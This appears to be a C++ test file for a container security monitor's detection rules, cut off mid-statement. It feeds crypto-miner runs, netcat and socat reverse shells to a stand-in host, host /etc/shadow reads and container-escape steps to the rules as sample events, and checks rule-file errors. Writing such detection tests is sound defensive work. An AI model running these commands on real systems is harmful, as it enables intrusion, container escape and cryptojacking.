// FirstRules: the shipped rules (rules/default.yaml) against hand-built
// events, near misses included, and the file:line:column errors of bad files.
#include <fcntl.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <memory>
#include <string>
#include <vector>

#include "first_rules.h"
#include "test_context.h"
#include "test_util.h"

using crowsnest::Detection;
using crowsnest::FirstRules;
using crowsnest::test::connect_inet_scene;
using crowsnest::test::connect_unix_scene;
using crowsnest::test::exec_scene;
using crowsnest::test::kContainerId;
using crowsnest::test::open_scene;
using crowsnest::test::Scene;
using crowsnest::test::TempDir;
using crowsnest::test::write_file;

using Names = std::vector<std::string>;

namespace {

const std::string kDefaultRules = CROWSNEST_SOURCE_DIR "/rules/default.yaml";

const FirstRules &default_rules() {
    static const std::unique_ptr<FirstRules> rules = [] {
        std::vector<std::string> errors;
        auto r = FirstRules::load({kDefaultRules}, errors);
        INFO("errors: " << Catch::Detail::stringify(errors));
        REQUIRE(errors.empty());
        REQUIRE(r != nullptr);
        return r;
    }();
    return *rules;
}

std::vector<Detection> detect(const Scene &s, const FirstRules &rules = default_rules()) {
    std::vector<Detection> out;
    rules.match(s.ctx(), out);
    return out;
}

// The names of the rules that fire, sorted.
Names fired(const Scene &s, const FirstRules &rules = default_rules()) {
    Names names;
    for (const auto &d : detect(s, rules)) names.push_back(d.rule->name);
    std::sort(names.begin(), names.end());
    return names;
}

bool fires(const Scene &s, const std::string &rule) {
    const Names n = fired(s);
    return std::find(n.begin(), n.end(), rule) != n.end();
}

const Detection *detection_of(const std::vector<Detection> &ds, const std::string &rule) {
    for (const auto &d : ds)
        if (d.rule->name == rule) return &d;
    return nullptr;
}

// Rule files written to a temporary directory and loaded.
struct RuleFiles {
    TempDir dir;
    std::vector<std::string> errors;

    std::string write(const std::string &name, const std::string &yaml) {
        write_file(dir / name, yaml);
        return dir / name;
    }
    std::unique_ptr<FirstRules> load(const std::vector<std::string> &files) {
        errors.clear();
        auto r = FirstRules::load(files, errors);
        if (r) CHECK(errors.empty());
        return r;
    }
    // Loads one file of this text; expects it to fail.
    Names errors_of(const std::string &yaml) {
        auto r = load({write("rules.yaml", yaml)});
        CHECK(r == nullptr);
        return errors;
    }
    // "<dir>/rules.yaml:<line>:<column>: <message>"
    std::string at(int line, int column, const std::string &message, const std::string &file = "rules.yaml") {
        return dir / file + ":" + std::to_string(line) + ":" + std::to_string(column) + ": " + message;
    }
};

// A valid rule; `when` and the other fields can be replaced with text.
std::string rule_yaml(const std::string &name, const std::string &when = "      succeeded: true\n",
                      const std::string &event = "exec", const std::string &severity = "high",
                      const std::string &output = "\"%proc.name ran\"") {
    return "  - rule: " + name + "\n" +
           "    desc: test rule\n"
           "    event: " + event + "\n" +
           "    category: test\n"
           "    severity: " + severity + "\n" +
           "    when:\n" + when +
           "    output: " + output + "\n";
}

}  // namespace

// ---- the shipped file -------------------------------------------------------

TEST_CASE("first_rules: default.yaml loads", "[first_rules]") {
    const FirstRules &r = default_rules();
    CHECK(r.rule_count() > 10);
    const auto &paths = r.protected_host_paths();
    CHECK(std::find(paths.begin(), paths.end(), "/etc/shadow") != paths.end());
    CHECK(std::find(paths.begin(), paths.end(), "/etc/cron.d/") != paths.end());
    CHECK(std::is_sorted(paths.begin(), paths.end()));
    CHECK(std::adjacent_find(paths.begin(), paths.end()) == paths.end());
    for (const auto &p : paths) CHECK(p.front() == '/');
}

// ---- miners -----------------------------------------------------------------

TEST_CASE("first_rules: a known miner binary fires", "[first_rules][miner]") {
    CHECK(fires(exec_scene("/tmp/.x/xmrig", {"xmrig", "-c", "config.json"}), "crypto_miner_binary"));
    CHECK(fires(exec_scene("/tmp/.x/xmrig", {"xmrig"}).on_host(), "crypto_miner_binary"));
    // case-insensitive, and argv[0] counts when the file is renamed
    CHECK(fires(exec_scene("/opt/XMRig", {"XMRig"}), "crypto_miner_binary"));
    CHECK(fires(exec_scene("/usr/bin/env", {"minerd", "--url", "x"}), "crypto_miner_binary"));

    const auto ds = detect(exec_scene("/tmp/.x/xmrig", {"xmrig", "-c", "config.json"}));
    const Detection *d = detection_of(ds, "crypto_miner_binary");
    REQUIRE(d != nullptr);
    CHECK(d->rule->category == "miner");
    CHECK(d->rule->severity == "critical");
    CHECK(d->rule->tags == Names{"T1496"});
    CHECK(d->output == "Crypto miner started: /tmp/.x/xmrig (xmrig -c config.json) in container " + kContainerId);
}

TEST_CASE("first_rules: a renamed miner with a stratum URL fires crypto_miner_stratum_args", "[first_rules][miner]") {
    const Scene s = exec_scene("/usr/local/bin/kworkerd", {"kworkerd", "-o", "stratum+tcp://pool:3333", "-u", "w"});
    CHECK(fired(s) == Names{"crypto_miner_stratum_args"});
    CHECK(fires(exec_scene("/bin/k", {"k", "--url=STRATUM+SSL://pool.example:443"}), "crypto_miner_stratum_args"));
}

TEST_CASE("first_rules: miner-only flags fire crypto_miner_flags", "[first_rules][miner]") {
    CHECK(fired(exec_scene("/bin/app", {"app", "--donate-level=1"})) == Names{"crypto_miner_flags"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--donate-level", "1"})) == Names{"crypto_miner_flags"});
    CHECK(fires(exec_scene("/bin/app", {"app", "--coin=monero"}), "crypto_miner_flags"));
}

TEST_CASE("first_rules: a mining algorithm fires crypto_miner_algorithm", "[first_rules][miner]") {
    CHECK(fired(exec_scene("/bin/app", {"app", "-a", "rx/0"})) == Names{"crypto_miner_algorithm"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--algo=cryptonight"})) == Names{"crypto_miner_algorithm"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--algorithm", "KawPow"})) == Names{"crypto_miner_algorithm"});
    CHECK(fired(exec_scene("/bin/app", {"app", "-arx/0"})) == Names{"crypto_miner_algorithm"});  // getopt's -aVALUE
    CHECK(fired(exec_scene("/bin/app", {"app", "-o", "x", "--algo", "cryptonight-lite"})) ==
          Names{"crypto_miner_algorithm"});
}

// The algorithm must be the value of -a/--algo, not any other argument.
TEST_CASE("first_rules: an algorithm name elsewhere in argv is no mining algorithm",
          "[first_rules][miner][near_miss]") {
    for (const Scene &s : {
             exec_scene("/usr/bin/git", {"git", "commit", "-a", "-m", "randomx fix"}),
             exec_scene("/usr/bin/git", {"git", "commit", "-am", "randomx fix"}),
             exec_scene("/bin/app", {"app", "--algo", "sha256", "--note", "rx/0"}),
             exec_scene("/bin/app", {"app", "--algorithms=kawpow"}),  // another flag
             exec_scene("/bin/app", {"app", "rx/0", "-a"}),           // -a with nothing after it
         }) {
        CAPTURE(s.event.argv);
        CHECK(fired(s).empty());
    }
}

TEST_CASE("first_rules: miner near misses do not fire", "[first_rules][miner][near_miss]") {
    for (const Scene &s : {
             exec_scene("/usr/bin/xmrig-proxy-docs", {"xmrig-proxy-docs"}),  // not the name
             exec_scene("/usr/bin/minerd2", {"minerd2"}),
             exec_scene("/bin/app", {"app", "--url", "https://stratum.example.com"}),  // no stratum scheme
             exec_scene("/bin/app", {"stratum+tcp://pool:3333"}),                    // argv[0] is not an argument
             exec_scene("/bin/app", {"app", "--donate-levels=1"}),                   // another flag
             exec_scene("/bin/app", {"app", "--coinbase"}),
             exec_scene("/bin/app", {"app", "x--donate-level"}),
             exec_scene("/bin/ls", {"ls", "-a", "/tmp"}),         // -a without an algorithm
             exec_scene("/bin/echo", {"echo", "rx/0"}),           // an algorithm without -a
             exec_scene("/bin/app", {"app", "--algo", "sha256"}),  // not a mining algorithm
         }) {
        CAPTURE(s.event.argv);
        CHECK(fired(s).empty());
    }
}

TEST_CASE("first_rules: a failed exec fires nothing", "[first_rules][miner]") {
    CHECK(fired(exec_scene("/tmp/xmrig", {"xmrig", "-o", "stratum+tcp://p:3333", "--donate-level=1"}, -2)).empty());
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "10.0.0.0/24"}, -13)).empty());
    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, -2)).empty());
}

TEST_CASE("first_rules: a miner configured by file still touches MSRs and huge pages", "[first_rules][miner]") {
    Scene msr = open_scene("/dev/cpu/3/msr");
    msr.event.open_flags = O_WRONLY;
    msr.by("/tmp/systemd-journald", {"./systemd-journald"});
    CHECK(fired(msr) == Names{"crypto_miner_msr_write"});
    CHECK(fired(msr.on_host()) == Names{"crypto_miner_msr_write"});
    CHECK(fired(open_scene("/dev/cpu/3/msr")).empty());  // turbostat reads them

    Scene huge = open_scene("/proc/sys/vm/nr_hugepages");
    huge.event.open_flags = O_WRONLY | O_TRUNC;
    CHECK(fired(huge) == Names{"hugepages_write_from_container"});
    CHECK(fired(huge.on_host()).empty());
    CHECK(fired(open_scene("/proc/sys/vm/nr_hugepages")).empty());  // reading is harmless
}

TEST_CASE("first_rules: a program written in the container is drift", "[first_rules][drift]") {
    Scene drift = exec_scene("/tmp/x", {"/tmp/x"});
    drift.event.exe_upper_layer = true;
    CHECK(fired(drift) == Names{"drift_binary_executed"});
    CHECK(fired(drift.on_host()).empty());
    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "app.py"})).empty());  // from the image
}

TEST_CASE("first_rules: a port scan by any program, and busy clients that are none", "[first_rules][scanner]") {
    // fresh rules: the scan rule keeps state
    std::vector<std::string> errors;
    const auto rules = FirstRules::load({kDefaultRules}, errors);
    REQUIRE(rules);
    int scans = 0;
    for (uint16_t port = 1; port <= 80; port++) {
        Scene s = connect_inet_scene("10.0.0.9", port, -111);
        s.by("/tmp/.x/kworker", {"kworker"});
        s.event.boot_ns = 1000000000ULL + port * 1000000ULL;
        for (const auto &d : detect(s, *rules)) {
            scans += d.rule->name == "port_scan";
            if (d.rule->name == "port_scan") {
                CHECK(d.rule->category == "scanner");
                CHECK(port == 50);
                CHECK(d.output.find("10.0.0.9") != std::string::npos);
            }
        }
    }
    CHECK(scans == 1);

    // a scraper reaching 200 hosts on one port, and a client retrying one port
    for (int h = 1; h <= 200; h++) {
        Scene s = connect_inet_scene("10.1.0." + std::to_string(h % 250), 9100);
        s.event.boot_ns = 5000000000ULL + uint64_t(h);
        CHECK(fired(s, *rules).empty());
    }
    for (int i = 0; i < 200; i++) CHECK(fired(connect_inet_scene("10.2.0.1", 5432, -111), *rules).empty());
}

TEST_CASE("first_rules: a mining-pool port fires from a container only", "[first_rules][miner]") {
    CHECK(fired(connect_inet_scene("198.51.100.7", 3333, -115)) == Names{"mining_pool_port_connect"});
    CHECK(fired(connect_inet_scene("2001:db8::7", 14444)) == Names{"mining_pool_port_connect"});
    CHECK(fired(connect_inet_scene("198.51.100.7", 3333).on_host()).empty());
    CHECK(fired(connect_inet_scene("198.51.100.7", 443)).empty());
    CHECK(fired(connect_inet_scene("198.51.100.7", 3332)).empty());
    // busy, harmless services on ports some pools also use (Selenium Grid, Celery Flower)
    CHECK(fired(connect_inet_scene("10.0.0.5", 4444)).empty());
    CHECK(fired(connect_inet_scene("10.0.0.6", 5555)).empty());

    const auto ds = detect(connect_inet_scene("198.51.100.7", 3333, -111));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].output == "Connection to a mining-pool port: curl (/usr/bin/curl) to 198.51.100.7:3333 "
                          "(ECONNREFUSED) in container " + kContainerId);
}

TEST_CASE("first_rules: an unresolved cgroup is not a container", "[first_rules]") {
    Scene s = connect_inet_scene("198.51.100.7", 3333);
    s.has_cgroup = false;
    CHECK(fired(s).empty());
}

// ---- scanners and network tools ---------------------------------------------

TEST_CASE("first_rules: nmap fires in a container, not on the host", "[first_rules][scanner]") {
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"})) == Names{"network_scanner_in_container"});
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}).on_host()).empty());
    CHECK(fired(exec_scene("/usr/bin/masscan", {"masscan", "-p1-65535", "10.0.0.0/8"})) ==
          Names{"network_scanner_in_container"});

    const auto ds = detect(exec_scene("/usr/bin/nmap", {"nmap", "-sS", "10.0.0.0/24"}));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].output == "Network scanner started in container " + kContainerId + ": /usr/bin/nmap (nmap -sS 10.0.0.0/24)");
}

TEST_CASE("first_rules: nc -z in a container is only a low network tool", "[first_rules][scanner]") {
    const auto ds = detect(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "network_tool_in_container");
    CHECK(ds[0].rule->severity == "low");
    CHECK(fired(exec_scene("/usr/bin/nc", {"nc", "-z", "db", "5432"}).on_host()).empty());
}

TEST_CASE("first_rules: nc -e is a reverse shell, in a container or not", "[first_rules][scanner]") {
    const Names in_container = fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}));
    // one verdict per category: the reverse shell rule comes first
    CHECK(in_container == Names{"reverse_shell_netcat"});
    CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}).on_host()) ==
          Names{"reverse_shell_netcat"});
    CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "--sh-exec=/bin/bash", "1.2.3.4", "80"}), "reverse_shell_netcat"));
    CHECK(fires(exec_scene("/usr/bin/ncat", {"ncat", "-c", "bash -i", "1.2.3.4", "80"}), "reverse_shell_netcat"));
}

TEST_CASE("first_rules: netcat without an exec option is no reverse shell", "[first_rules][scanner][near_miss]") {
    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "my-elastic", "9200"}), "reverse_shell_netcat"));
    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "-v", "-w", "2", "exec.example.com", "80"}), "reverse_shell_netcat"));
    CHECK_FALSE(fires(exec_scene("/bin/nc", {"nc", "-lp", "8080"}).on_host(), "reverse_shell_netcat"));
    // -e on a program that is no network tool
    CHECK(fired(exec_scene("/bin/grep", {"grep", "-e", "pattern", "file"})).empty());
}

TEST_CASE("first_rules: socat with exec: is a reverse shell", "[first_rules][scanner]") {
    CHECK(fires(exec_scene("/usr/bin/socat", {"socat", "TCP:1.2.3.4:4444", "EXEC:/bin/bash"}), "reverse_shell_socat"));
    CHECK(fires(exec_scene("/usr/bin/socat", {"socat", "tcp:1.2.3.4:4444", "system:sh"}).on_host(),
                "reverse_shell_socat"));
    CHECK_FALSE(fires(exec_scene("/usr/bin/socat", {"socat", "TCP-LISTEN:8080", "TCP:backend:80"}),
                      "reverse_shell_socat"));
}

// ---- host files and escapes -------------------------------------------------

TEST_CASE("first_rules: a host secret opened from a container", "[first_rules][host_mount]") {
    Scene s = open_scene("/host/etc/shadow");
    s.host_path = "/etc/shadow";
    const auto ds = detect(s);
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "host_secret_read_from_container");
    CHECK(ds[0].output == "Host file /etc/shadow opened from container " + kContainerId +
                              " as /host/etc/shadow by cat (/usr/bin/cat)");

    Scene host = open_scene("/etc/shadow").on_host();
    host.host_path = "/etc/shadow";
    CHECK(fired(host).empty());
    CHECK(fired(open_scene("/host/etc/shadow")).empty());  // no protected file reached
}

TEST_CASE("first_rules: host files that are only dangerous to write", "[first_rules][host_mount]") {
    // ls and id read /etc/passwd all the time: reading it is no finding
    Scene read = open_scene("/host/etc/passwd");
    read.host_path = "/etc/passwd";
    CHECK(fired(read).empty());

    Scene write = open_scene("/host/etc/cron.d/job");
    write.host_path = "/etc/cron.d/job";
    write.event.open_flags = O_WRONLY | O_CREAT | O_TRUNC;
    CHECK(fired(write) == Names{"host_file_written_from_container"});

    // a secret that is also a persistence file: writing it is the one verdict of its category
    Scene shadow = open_scene("/host/etc/shadow");
    shadow.host_path = "/etc/shadow";
    shadow.event.open_flags = O_RDWR;
    CHECK(fired(shadow) == Names{"host_file_written_from_container"});
}

TEST_CASE("first_rules: known container escapes", "[first_rules][escape]") {
    Scene agent = open_scene("/sys/fs/cgroup/rdma/x/release_agent");
    agent.event.open_flags = O_WRONLY | O_TRUNC;
    CHECK(fired(agent) == Names{"cgroup_release_agent_write"});
    CHECK(fired(open_scene("/sys/fs/cgroup/rdma/release_agent")).empty());  // reading it

    Scene core = open_scene("/proc/sys/kernel/core_pattern");
    core.event.open_flags = O_WRONLY;
    CHECK(fired(core) == Names{"core_pattern_write"});
    CHECK(fired(core.on_host()).empty());  // the host's own tools (systemd-coredump) set it

    CHECK(fired(exec_scene("/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"})) ==
          Names{"nsenter_in_container"});
    CHECK(fired(exec_scene("/bin/mount", {"mount", "/dev/sda1", "/mnt"})) == Names{"host_disk_mount_in_container"});
    CHECK(fired(exec_scene("/bin/mount", {"mount", "-t", "tmpfs", "tmpfs", "/scratch"})).empty());
    CHECK(fired(exec_scene("/bin/mount", {"mount", "/dev/nvme0n1p2", "/mnt"}).on_host()).empty());
}

TEST_CASE("first_rules: /proc/1/root needs the host pid namespace", "[first_rules][escape]") {
    CHECK(fired(open_scene("/proc/1/root/etc/shadow").with_host_pid_ns()) == Names{"host_root_via_proc"});
    CHECK(fired(open_scene("/proc/1/root/etc/shadow")).empty());
    CHECK(fired(open_scene("/proc/1/root/etc/shadow").with_host_pid_ns().on_host()).empty());
    // near misses
    CHECK(fired(open_scene("/proc/12/root/etc/shadow").with_host_pid_ns()).empty());
    CHECK(fired(open_scene("/proc/1/rootfs/x").with_host_pid_ns()).empty());
    CHECK(fired(open_scene("/proc/self/root/etc/shadow").with_host_pid_ns()).empty());
    // the path is matched after normalisation
    CHECK(fired(open_scene("/proc/1/cwd/../root/etc/shadow").with_host_pid_ns()) == Names{"host_root_via_proc"});
}

TEST_CASE("first_rules: a runtime socket from a container", "[first_rules][escape]") {
    const auto ds = detect(connect_unix_scene("/var/run/docker.sock"));
    REQUIRE(ds.size() == 1);
    CHECK(ds[0].rule->name == "runtime_socket_connect");
    CHECK(ds[0].output == "Container runtime socket /var/run/docker.sock reached from container " + kContainerId +
                              " by docker (/usr/bin/docker), SUCCESS");
    CHECK(fired(connect_unix_scene("/run/containerd/containerd.sock", false, -2)) == Names{"runtime_socket_connect"});

    CHECK(fired(connect_unix_scene("/var/run/docker.sock").on_host()).empty());
    CHECK(fired(connect_unix_scene("/var/run/docker.sock.bak")).empty());
    CHECK(fired(connect_unix_scene("/tmp/mydocker.sock")).empty());
    CHECK(fired(open_scene("/var/run/docker.sock")) == Names{"runtime_socket_opened"});
    CHECK(fired(open_scene("/var/run/docker.sock").on_host()).empty());
}

TEST_CASE("first_rules: events of another type never match a rule", "[first_rules]") {
    Scene s = exec_scene("/tmp/xmrig", {"xmrig"});
    s.event.type = crowsnest::EventType::Exit;
    CHECK(fired(s).empty());
}

// ---- rule semantics on custom files -----------------------------------------

TEST_CASE("first_rules: custom rules, inline lists and enabled: false", "[first_rules]") {
    RuleFiles f;
    auto r = f.load({f.write("a.yaml", "rules:\n" +
                                           rule_yaml("custom_tool", "      exe_name_in: [MyTool]\n") +
                                           rule_yaml("disabled", "      succeeded: true\n") +
                                           "    enabled: false\n")});
    REQUIRE(r != nullptr);
    CHECK(r->rule_count() == 1);
    CHECK(fired(exec_scene("/bin/mytool", {"mytool"}), *r) == Names{"custom_tool"});
    CHECK(fired(exec_scene("/bin/other", {"other"}), *r).empty());
    CHECK(r->protected_host_paths().empty());
}

TEST_CASE("first_rules: an empty file loads no rules", "[first_rules]") {
    RuleFiles f;
    auto r = f.load({f.write("empty.yaml", "# nothing yet\n")});
    REQUIRE(r != nullptr);
    CHECK(r->rule_count() == 0);
}

// A host_file predicate names the host paths it is about; the engine reports
// whichever protected file an open reached (the union over all rules).
TEST_CASE("first_rules: host_file fires only for the paths its rule lists", "[first_rules]") {
    RuleFiles f;
    auto r = f.load({f.write("a.yaml", "rules:\n" +
                                           rule_yaml("shadow_read", "      host_file: [/etc/shadow]\n", "open") +
                                           rule_yaml("kubeconfig_read", "      host_file: [/etc/kubernetes/]\n",
                                                     "open"))});
    REQUIRE(r != nullptr);
    Scene s = open_scene("/host/etc/shadow");
    s.host_path = "/etc/shadow";
    CHECK(fired(s, *r) == Names{"shadow_read"});
    s.host_path = "/etc/kubernetes/admin.conf";
    CHECK(fired(s, *r) == Names{"kubeconfig_read"});
    // a listed directory covers the files directly in it, nothing deeper
    s.host_path = "/etc/kubernetes/pki/ca.key";
    CHECK(fired(s, *r).empty());
    s.host_path = "/etc/shadow-";
    CHECK(fired(s, *r).empty());
    CHECK(r->protected_host_paths() == Names{"/etc/kubernetes/", "/etc/shadow"});
}

// default.yaml: "Add your own files with --rules (later files replace lists of
// the same name)". A replaced list should change the shipped rules that use it.
TEST_CASE("first_rules: a list replaced by a later file applies to earlier rules", "[first_rules]") {
    RuleFiles f;
    const std::string mine = f.write("zz-local.yaml", "lists:\n  scanner_tools: [corpscan]\n");
    auto r = f.load({kDefaultRules, mine});
    REQUIRE(r != nullptr);
    CHECK(fired(exec_scene("/usr/bin/corpscan", {"corpscan", "10.0.0.0/8"}), *r) ==
          Names{"network_scanner_in_container"});
    CHECK(fired(exec_scene("/usr/bin/nmap", {"nmap", "10.0.0.0/8"}), *r).empty());
}

TEST_CASE("first_rules: a list of a later file serves the rules of that file", "[first_rules]") {
    RuleFiles f;
    const std::string lists = f.write("a.yaml", "lists:\n  tools: [one]\n");
    const std::string rules = f.write("b.yaml", "lists:\n  tools: [two]\nrules:\n" +
                                                    rule_yaml("uses_tools", "      exe_name_in: tools\n"));
    auto r = f.load({lists, rules});
    REQUIRE(r != nullptr);
    CHECK(fired(exec_scene("/bin/two", {"two"}), *r) == Names{"uses_tools"});
    CHECK(fired(exec_scene("/bin/one", {"one"}), *r).empty());
}

// ---- rule file errors -------------------------------------------------------

TEST_CASE("first_rules errors: unknown predicate", "[first_rules][errors]") {
    RuleFiles f;
    const Names errors = f.errors_of("rules:\n" + rule_yaml("r1", "      exe_name_is: [nmap]\n"));
    CHECK(errors == Names{f.at(8, 7,
                               "unknown predicate 'exe_name_is' (known: args_contain_any, args_flag_any, distinct_ports_per_host, dst_port_in, "
                               "exe_name_in, exe_upper_layer, flag_value_contains_any, host_file, host_pid_ns, in_container, open_for_write, "
                               "path_name_in, path_prefix_in, succeeded, unix_socket_name_in)")});
}

TEST_CASE("first_rules errors: bad port-scan thresholds", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      distinct_ports_per_host: {at_least: 0, within_seconds: 10}\n")) ==
          Names{f.at(8, 43, "'at_least' must be a whole number from 1 to 65536")});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      distinct_ports_per_host: {at_least: 50}\n")) ==
          Names{f.at(8, 32, "expected {at_least: <count>, within_seconds: <seconds>}")});
}

TEST_CASE("first_rules errors: undefined list", "[first_rules][errors]") {
    RuleFiles f;
    const Names errors = f.errors_of("lists:\n  tools: [a]\nrules:\n" + rule_yaml("r1", "      exe_name_in: toolz\n"));
    CHECK(errors == Names{f.at(10, 20, "undefined list 'toolz'")});
}

TEST_CASE("first_rules errors: bad port numbers", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      dst_port_in: [3333, 70000]\n", "connect")) ==
          Names{f.at(8, 20, "'70000' is not a port number (0-65535)")});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      dst_port_in: [\"80x\"]\n", "connect")) ==
          Names{f.at(8, 20, "'80x' is not a port number (0-65535)")});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      dst_port_in: [-1]\n", "connect")) ==
          Names{f.at(8, 20, "'-1' is not a port number (0-65535)")});
    CHECK(f.errors_of("lists:\n  ports: [\"\"]\nrules:\n" + rule_yaml("r1", "      dst_port_in: ports\n", "connect")) ==
          Names{f.at(10, 20, "'' is not a port number (0-65535)")});
}

TEST_CASE("first_rules errors: unknown severity", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      succeeded: true\n", "exec", "urgent")) ==
          Names{f.at(6, 15, "unknown severity 'urgent' (expected info, low, medium, high or critical)")});
}

TEST_CASE("first_rules errors: unknown event", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      succeeded: true\n", "fork")) ==
          Names{f.at(4, 12, "unknown event 'fork' (expected exec, connect or open)")});
}

TEST_CASE("first_rules errors: unknown output field", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n" +
                      rule_yaml("r1", "      succeeded: true\n", "exec", "high", "\"%proc.name met %foo.bar\"")) ==
          Names{f.at(9, 13, "unknown field %foo.bar in output")});
}

TEST_CASE("first_rules errors: duplicate rule names", "[first_rules][errors]") {
    RuleFiles f;
    SECTION("in one file") {
        CHECK(f.errors_of("rules:\n" + rule_yaml("same") + rule_yaml("same")) ==
              Names{f.at(10, 11, "duplicate rule 'same'")});
    }
    SECTION("across two files") {
        const std::string a = f.write("a.yaml", "rules:\n" + rule_yaml("same"));
        const std::string b = f.write("b.yaml", "rules:\n" + rule_yaml("other") + rule_yaml("same"));
        CHECK(f.load({a, b}) == nullptr);
        CHECK(f.errors == Names{f.at(10, 11, "duplicate rule 'same'", "b.yaml")});
    }
}

TEST_CASE("first_rules errors: missing required keys", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n"
                      "  - rule: r1\n"
                      "    event: exec\n"
                      "    severity: high\n"
                      "    when: {succeeded: true}\n"
                      "    output: x\n") == Names{f.at(2, 5, "rule is missing 'category'")});
    CHECK(f.errors_of("rules:\n"
                      "  - desc: nameless\n"
                      "    category: c\n"
                      "    event: exec\n"
                      "    severity: high\n"
                      "    when: {succeeded: true}\n") ==
          Names{f.at(2, 5, "rule is missing 'rule'"), f.at(2, 5, "rule is missing 'output'")});
    CHECK(f.errors_of("rules:\n"
                      "  - rule: r1\n"
                      "    category: c\n"
                      "    event: exec\n"
                      "    severity: high\n"
                      "    output: x\n") == Names{f.at(2, 5, "rule needs a 'when' map of predicates")});
}

TEST_CASE("first_rules errors: YAML syntax error", "[first_rules][errors]") {
    RuleFiles f;
    // the message is yaml-cpp's; the position is where the parser gave up
    CHECK(f.errors_of("rules:\n"
                      "  - rule: r1\n"
                      "    when: [unclosed\n"
                      "    output: x\n") == Names{f.at(4, 11, "end of sequence flow not found")});
    CHECK(f.errors_of("rules:\n  - rule: a: b\n") == Names{f.at(2, 12, "illegal map value")});
    CHECK(f.errors_of("lists:\n  tools: [a]\n bad: 1\n") == Names{f.at(3, 2, "end of map not found")});
}

// A map key that is not a scalar made key.as<std::string>() throw
// YAML::TypedBadConversion out of load(): the daemon died on such a file
// instead of reporting it (and a reload would not keep the old rules).
TEST_CASE("first_rules errors: a non-scalar map key is an error, not an exception", "[first_rules][errors]") {
    RuleFiles f;
    const std::vector<std::pair<std::string, std::pair<int, int>>> cases = {
        {"[a, b]: 1\n", {1, 1}},
        {"lists:\n  [a]: [x]\n", {2, 3}},
        {"rules:\n" + rule_yaml("r1", "      [a, b]: true\n"), {8, 7}},
        {"rules:\n  - {[x]: 1, rule: r1}\n", {2, 6}},
    };
    for (const auto &[yaml, at] : cases) {
        CAPTURE(yaml);
        std::unique_ptr<FirstRules> r;
        std::vector<std::string> errors;
        CHECK_NOTHROW(r = FirstRules::load({f.write("rules.yaml", yaml)}, errors));
        CHECK(r == nullptr);
        CHECK(errors == Names{f.at(at.first, at.second, "expected a name")});
    }
}

TEST_CASE("first_rules errors: flag_value_contains_any needs flags and values", "[first_rules][errors]") {
    RuleFiles f;
    const std::string expected = "expected {flags: <list>, values: <list>}";
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      flag_value_contains_any: [-a]\n")) ==
          Names{f.at(8, 32, expected)});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      flag_value_contains_any: {flags: [-a]}\n")) ==
          Names{f.at(8, 32, expected)});
    const std::string extra_key = "      flag_value_contains_any: {flags: [-a], values: [x], y: 1}\n";
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", extra_key)) == Names{f.at(8, 32, expected)});
    const std::string undefined = "      flag_value_contains_any: {flags: [-a], values: algos}\n";
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", undefined)) == Names{f.at(8, 54, "undefined list 'algos'")});
}

TEST_CASE("first_rules: flag_value_contains_any on a custom rule", "[first_rules]") {
    RuleFiles f;
    auto r = f.load({f.write("a.yaml", "lists:\n  levels: [debug]\nrules:\n" +
                                           rule_yaml("debug_level", "      flag_value_contains_any: "
                                                                    "{flags: [-l, --log-level], values: levels}\n"))});
    REQUIRE(r != nullptr);
    CHECK(fired(exec_scene("/bin/app", {"app", "--log-level", "DEBUG"}), *r) == Names{"debug_level"});
    CHECK(fired(exec_scene("/bin/app", {"app", "--log-level=debug2"}), *r) == Names{"debug_level"});
    CHECK(fired(exec_scene("/bin/app", {"app", "-ldebug"}), *r) == Names{"debug_level"});
    CHECK(fired(exec_scene("/bin/app", {"app", "-l", "info", "debug"}), *r).empty());
    CHECK(fired(exec_scene("/bin/app", {"app", "--log-levels", "debug"}), *r).empty());
    CHECK(fired(exec_scene("/bin/app", {"-l", "debug"}), *r).empty());  // argv[0] is not a flag
}

// Lists are collected from every file before the rules are read; the errors
// still name the file, line and column they are about, in file order.
TEST_CASE("first_rules errors: positions stay right across the two passes", "[first_rules][errors]") {
    RuleFiles f;
    const std::string a = f.write("a.yaml", "rules:\n" + rule_yaml("r1", "      exe_name_in: later\n") +
                                                rule_yaml("r2", "      exe_name_in: nowhere\n"));
    const std::string b = f.write("b.yaml", "lists:\n  later: [x]\n  bad: [[x]]\n");
    CHECK(f.load({a, b}) == nullptr);
    CHECK(f.errors == Names{f.at(16, 20, "undefined list 'nowhere'", "a.yaml"),
